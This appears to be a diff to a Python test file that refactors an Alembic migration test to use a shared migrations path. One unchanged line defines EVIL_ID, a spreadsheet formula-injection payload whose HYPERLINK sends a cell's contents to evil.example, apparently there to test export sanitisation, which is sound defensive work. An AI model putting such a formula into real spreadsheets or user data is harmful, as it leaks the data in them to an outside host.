@@ -14,6 +14,8 @@ import pytest
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
 
+from memberlens.appstate import MIGRATIONS
+
 PASSWORD = "plum-orchard-lantern"
 EVIL_ID = '=HYPERLINK("http://evil.example/?d="&C2,"open")'
 
@@ -450,7 +452,6 @@ def test_cli_tokens_have_scopes_and_are_listed_and_revoked(empty):
 
 
 def test_migration_gives_old_tokens_every_scope_and_an_expiry(tmp_path):
-    from pathlib import Path
 
     from alembic import command
     from alembic.config import Config
@@ -461,7 +462,7 @@ def test_migration_gives_old_tokens_every_scope_and_an_expiry(tmp_path):
     url = f"sqlite:///{tmp_path / 'old.sqlite'}"
     engine = create_engine(url)
     cfg = Config()
-    cfg.set_main_option("script_location", str(Path(store.__file__).parent / "migrations"))
+    cfg.set_main_option("script_location", str(MIGRATIONS))
     with engine.begin() as conn:
         cfg.attributes["connection"] = conn
         command.upgrade(cfg, "0001")
